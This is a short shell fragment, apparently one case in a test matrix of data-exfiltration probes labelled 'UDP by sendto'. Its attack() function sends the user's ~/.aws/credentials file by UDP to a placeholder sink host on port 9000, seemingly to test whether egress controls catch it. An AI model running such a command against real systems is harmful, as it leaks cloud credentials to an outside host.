# SPDX-License-Identifier: Apache-2.0
TITLE="UDP by sendto"
ROW="N08 E24"
attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "$SINK4" 9000; }
